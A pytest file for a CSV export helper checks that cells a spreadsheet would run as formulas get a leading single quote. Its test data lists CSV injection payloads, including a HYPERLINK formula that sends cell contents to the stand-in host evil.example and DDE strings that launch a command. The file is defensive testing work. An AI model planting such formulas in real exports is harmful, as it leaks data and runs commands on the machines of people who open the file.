"""CSV of untrusted text for a spreadsheet: every cell that Excel, LibreOffice or Sheets would run as a formula (OWASP's
CSV injection characters, and defusedcsv's) starts with a single quote; numbers and ordinary text are as they were;
text cells are quoted; the CSV reads back to the same table."""

from __future__ import annotations

import csv
import io

import pytest

from react_core import csv_text
from react_core.report.spreadsheet import safe_cell

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "|calc",
    "%1",
    "-",
]
SAFE = ["Foo", "1+2", "1", "1.3", "-1.3", "-1,2", "1-2", "1=3", "foo@example.org", "19.00 %", "Test | Foo", " =1+1", ""]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_cell_a_spreadsheet_would_run_starts_with_a_single_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", SAFE)
def test_numbers_and_ordinary_text_are_left_as_they_are(text):
    assert safe_cell(text) == text


def test_numbers_stay_numbers_and_none_is_empty():
    assert [safe_cell(v) for v in (-1, 0.5, True, None)] == [-1, 0.5, True, ""]


def test_the_csv_reads_back_with_every_dangerous_cell_made_text():
    rows = [{"question": q, "prediction": "@SUM(A1:A9)", "EM": 0.0, "steps": 3} for q in DANGEROUS]
    text = csv_text(rows)
    assert text.startswith("\ufeff")  # a spreadsheet reads it as UTF-8
    read = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert read[0] == ["question", "prediction", "EM", "steps"]
    assert [r[0] for r in read[1:]] == ["'" + q for q in DANGEROUS]  # tabs and CRs inside a quoted cell, kept
    assert {r[1] for r in read[1:]} == {"'@SUM(A1:A9)"} and {(r[2], r[3]) for r in read[1:]} == {("0.0", "3")}
    # Every text cell is quoted, so a separator inside one never starts a new cell; numbers are not.
    assert text.splitlines()[1].startswith('"\'=HYPERLINK(""http') and text.splitlines()[1].endswith(",0.0,3")


def test_columns_can_be_named_for_an_empty_table():
    assert csv_text([], ["change", "id"]) == '\ufeff"change","id"\r\n'
